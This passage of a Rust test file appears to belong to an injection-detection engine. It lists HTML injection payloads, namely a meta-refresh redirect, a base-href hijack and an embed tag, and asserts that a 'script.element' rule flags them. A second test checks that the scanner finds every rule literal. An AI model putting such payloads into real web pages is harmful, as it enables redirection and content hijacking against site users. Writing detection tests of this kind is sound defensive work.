        "<meta http-equiv=\"refresh\" content=\"0; http://a.example?</a>",
        "<a b=<base href=\"//a.example/</a>",
        "<a <b <embed c src=x",
    ] {
        check(text, Kind::Parameter, Some("script.element"));
    }
}

/// Nothing is dropped where the trie is built: its numbers hold all nodes there are.
#[test]
fn every_literal_of_every_rule_is_found() {
    let engine = Engine::new();
    for group in literals::groups() {
        for text in group.texts {
            let mut found = false;
            engine.finder.scan(text.as_bytes(), |id, end| {
                let literal = engine.literals.get(id);
                found |= end == text.len()
                    && literal.is_some_and(|(len, groups)| {
                        *len == text.len() && groups.iter().any(|(g, _)| std::ptr::eq(*g, group))
                    });
                found
            });
            assert!(found, "{text} of {}", group.rule);
        }
    }
}
